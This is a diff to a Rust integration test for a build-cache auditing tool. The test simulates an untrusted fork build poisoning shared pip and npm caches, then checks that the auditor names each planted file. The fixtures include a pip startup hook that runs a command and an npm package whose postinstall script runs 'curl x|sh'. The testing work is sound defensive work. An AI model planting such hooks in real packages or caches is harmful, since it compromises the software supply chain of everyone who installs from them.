@@ -1,8 +1,9 @@
 //! `audit mounts` on a real dockerd: a baseline after trusted builds, then an untrusted build
-//! plants a startup hook in the shared pip cache and overwrites an npm content blob; the audit
-//! names both with the planting run, and a clean rebuild by the trusted pipeline raises nothing
-//! new.
+//! plants a startup hook in the shared pip cache, overwrites an npm content blob and adds a
+//! correctly addressed npm package tarball with a `postinstall` script; the audit names each
+//! with the planting run, and a clean rebuild by the trusted pipeline raises nothing new.
 
+use std::io::Write as _;
 use std::path::PathBuf;
 
 use sha2::{Digest as _, Sha512};
@@ -25,6 +26,33 @@ fn blob_path(content: &[u8]) -> String {
         &hex[2..4],
         &hex[4..]
     )
+}
+
+/// A gzipped tarball of regular files, as `npm pack` writes one (ustar headers, two zero
+/// blocks at the end).
+fn npm_tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    for (name, data) in files {
+        let mut h = [0u8; 512];
+        h[..name.len()].copy_from_slice(name.as_bytes());
+        h[100..107].copy_from_slice(b"0000644");
+        h[108..115].copy_from_slice(b"0000000");
+        h[116..123].copy_from_slice(b"0000000");
+        h[124..135].copy_from_slice(format!("{:011o}", data.len()).as_bytes());
+        h[136..147].copy_from_slice(b"00000000000");
+        h[156] = b'0';
+        h[257..263].copy_from_slice(b"ustar\0");
+        h[263..265].copy_from_slice(b"00");
+        h[148..156].copy_from_slice(b"        ");
+        let sum: u32 = h.iter().map(|b| u32::from(*b)).sum();
+        h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
+        gz.write_all(&h).unwrap();
+        gz.write_all(data).unwrap();
+        gz.write_all(&vec![0; (512 - data.len() % 512) % 512])
+            .unwrap();
+    }
+    gz.write_all(&[0; 1024]).unwrap();
+    gz.finish().unwrap()
 }
 
 /// A build context with this Dockerfile (its `{BASE}` filled in) and files.
@@ -66,9 +94,10 @@ fn findings<'a>(doc: &'a serde_json::Value, code: &str) -> Vec<&'a serde_json::V
         .collect()
 }
 
-/// The planted `sitecustomize.py` (CW012), the overwritten npm blob (CW011) and the
-/// lower-trust change (CW013) are found with the untrusted run that wrote them; a trusted
-/// rebuild afterwards raises nothing new; an incident opens from the finding.
+/// The planted `sitecustomize.py`, npm tarball with a `postinstall` script and cut-off npm
+/// tarball (CW012 each), the overwritten npm blob (CW011) and the lower-trust change (CW013)
+/// are found with the untrusted run that wrote them; a trusted rebuild afterwards raises
+/// nothing new; an incident opens from the finding.
 #[test]
 fn planted_hook_and_overwritten_blob_are_found_with_their_run() {
     let Some(lab) = Lab::start_on(Engine::Docker20, &[B], &[]) else {
@@ -105,30 +134,116 @@ fn planted_hook_and_overwritten_blob_are_found_with_their_run() {
     assert_eq!(doc["summary"]["files"], 2, "{doc:#}");
     assert!(doc["findings"].as_array().unwrap().is_empty(), "{doc:#}");
 
+    // A package tarball as npm caches it: at the sha512 of its bytes, so no content check
+    // objects; only its `package.json` gives it away.
+    let evil = npm_tgz(&[
+        ("package/index.js", b"module.exports = 1;\n"),
+        (
+            "package/package.json",
+            br#"{"name":"left-pad","version":"1.3.1","scripts":{"postinstall":"node -e \"require('child_process').exec('curl x|sh')\""}}"#,
+        ),
+    ]);
+    let evil_at = blob_path(&evil);
+    let evil_dir = evil_at.rsplit_once('/').unwrap().0.to_owned();
+    // One cut off halfway, also at its own address: what it holds past the cut is unknown.
+    let whole = npm_tgz(&[
+        ("package/lib.js", &[b'x'; 20_000]),
+        ("package/package.json", b"{}"),
+    ]);
+    let cut = whole[..whole.len() / 2].to_vec();
+    let cut_at = blob_path(&cut);
+    let cut_dir = cut_at.rsplit_once('/').unwrap().0.to_owned();
     let fork = project(
         &lab,
         "fork",
         &format!(
             "FROM {{BASE}}\n\
+             COPY evil.tgz cut.tgz /src/\n\
              RUN --mount=type=cache,target=/root/.cache/pip \\\n    \
                  --mount=type=cache,id=npm,target=/root/.npm \\\n    \
                  echo 'import os; os.system(\"id\")' > /root/.cache/pip/sitecustomize.py && \\\n    \
-                 echo 'module.exports = steal' > /root/.npm/{blob_at}\n"
+                 echo 'module.exports = steal' > /root/.npm/{blob_at} && \\\n    \
+                 mkdir -p /root/.npm/{evil_dir} /root/.npm/{cut_dir} && \\\n    \
+                 cp /src/evil.tgz /root/.npm/{evil_at} && cp /src/cut.tgz /root/.npm/{cut_at}\n"
         ),
-        &[],
+        &[("evil.tgz", &evil), ("cut.tgz", &cut)],
     );
     lab.build(B, &FORK, "1", &fork, "fork-pr:1", &[]);
 
     let (code, doc, stderr) = audit(&lab, &[]);
     assert_eq!(code, 1, "{doc:#}\n{stderr}");
     let hooks = findings(&doc, "CW012");
-    assert_eq!(hooks.len(), 1, "{doc:#}");
-    assert_eq!(hooks[0]["mount_id"], "/root/.cache/pip");
-    assert_eq!(hooks[0]["path"], "sitecustomize.py");
-    let writers = hooks[0]["detail"]["writers"].as_str().unwrap();
+    let mut hook_paths: Vec<(&str, &str)> = hooks
+        .iter()
+        .map(|f| (f["mount_id"].as_str().unwrap(), f["path"].as_str().unwrap()))
+        .collect();
+    hook_paths.sort();
+    let mut expected = vec![
+        ("/root/.cache/pip", "sitecustomize.py"),
+        ("npm", evil_at.as_str()),
+        ("npm", cut_at.as_str()),
+    ];
+    expected.sort();
+    assert_eq!(hook_paths, expected, "{doc:#}");
+    for f in &hooks {
+        let writers = f["detail"]["writers"].as_str().unwrap();
+        assert!(
+            writers.contains("fork-pr/1/") && writers.contains("(untrusted)"),
+            "{doc:#}"
+        );
+        assert_eq!(f["detail"]["change"], "added", "{f:#}");
+    }
+    let by_path = |path: &str| *hooks.iter().find(|f| f["path"] == path).unwrap();
+    let tarball = by_path(&evil_at);
+    assert_eq!(tarball["detail"]["scripts"], "postinstall", "{tarball:#}");
+    assert_eq!(
+        tarball["detail"]["manifests"], "package/package.json: postinstall",
+        "{tarball:#}"
+    );
+    assert!(tarball["detail"].get("unread").is_none(), "{tarball:#}");
     assert!(
-        writers.contains("fork-pr/1/") && writers.contains("(untrusted)"),
-        "{doc:#}"
+        tarball["detail"]["writer_runs"]
+            .as_str()
+            .unwrap()
+            .starts_with("fork-pr/1/"),
+        "{tarball:#}"
+    );
+    assert!(
+        tarball["message"]
+            .as_str()
+            .unwrap()
+            .contains("`package/package.json` declares postinstall"),
+        "{tarball:#}"
+    );
+    let npm_mount = doc["mounts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|m| m["mount_id"] == "npm")
+        .unwrap();
+    assert_eq!(npm_mount["added"], 2, "{doc:#}");
+    // The cut tarball is a CW012 of its own, and counted and named as unchecked.
+    let unread = by_path(&cut_at);
+    assert!(
+        unread["detail"]["unread"]
+            .as_str()
+            .unwrap()
+            .contains("not read to its end"),
+        "{unread:#}"
+    );
+    assert!(
+        unread["detail"]["hook"]
+            .as_str()
+            .unwrap()
+            .contains("install scripts are unknown"),
+        "{unread:#}"
+    );
+    assert_eq!(npm_mount["unchecked"], 1, "{doc:#}");
+    assert!(
+        stderr.contains(&format!(
+            "`{cut_at}` not checked: package tarball not read to its end"
+        )),
+        "{stderr}"
     );
     let blobs = findings(&doc, "CW011");
     assert_eq!(blobs.len(), 1, "{doc:#}");
@@ -205,7 +320,7 @@ fn planted_hook_and_overwritten_blob_are_found_with_their_run() {
     assert_eq!(sarif["runs"][0]["results"].as_array().unwrap().len(), 1);
 
     // Four audits of two mounts; the last two saw nothing change and share the file rows of
-    // the one before (the baseline's 2 rows, then 3).
+    // the one before (the baseline's 2 rows, then 5).
     let conn = rusqlite::Connection::open(lab.env.db()).unwrap();
     let (snapshots, rows): (i64, i64) = conn
         .query_row(
@@ -214,7 +329,7 @@ fn planted_hook_and_overwritten_blob_are_found_with_their_run() {
             |row| Ok((row.get(0)?, row.get(1)?)),
         )
         .unwrap();
-    assert_eq!((snapshots, rows), (8, 5));
+    assert_eq!((snapshots, rows), (8, 7));
     drop(conn);
 
     // The helper builds' layers, each an archive of a mount, were pruned after each copy.
